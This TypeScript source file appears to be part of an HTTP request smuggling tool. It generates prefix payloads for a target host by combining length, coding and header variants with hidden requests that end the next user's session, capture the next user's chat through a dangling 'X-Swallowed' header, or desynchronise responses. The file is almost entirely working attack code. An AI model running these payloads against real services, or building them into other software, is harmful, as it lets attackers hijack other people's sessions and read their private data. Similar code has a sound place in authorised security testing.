import { codingForms } from './coding-forms.ts'
import type { Form } from './form.ts'
import { headForms } from './head-forms.ts'
import { lengthForms } from './length-forms.ts'

/** What is sent in front of other people's requests. */
export interface Prefix {
  /** Different from every other prefix's. */
  readonly name: string
  readonly form: string
  readonly bytes: Buffer
}

export const FORMS: readonly Form[] = [...lengthForms, ...codingForms, ...headForms]

/** What is hidden in them. The open ones end inside a header, which takes in the first line of the next request. */
const HIDDEN: Readonly<Record<string, (host: string) => string>> = {
  "ends the next one's session": () => 'DELETE /api/session HTTP/1.1\r\nX-Swallowed: ',
  "reads the next one's chat": () => 'GET /api/chat HTTP/1.1\r\nX-Swallowed: ',
  'is one reply too many': (host) => `GET /livez HTTP/1.1\r\n${host}\r\n\r\n`,
}

/** Every variant of every form, with each hidden request, for the host of a target. */
export function smugglingPrefixes(target: string): readonly Prefix[] {
  const host = `Host: ${new URL(target).host}`
  return FORMS.flatMap((form) =>
    Object.entries(HIDDEN).flatMap(([what, hidden]) =>
      form.variants(hidden(host), host).map((text, at) => ({
        name: `${form.name} ${String(at + 1)}, a hidden request that ${what}`,
        form: form.name,
        bytes: Buffer.from(text, 'latin1'),
      })),
    ),
  )
}
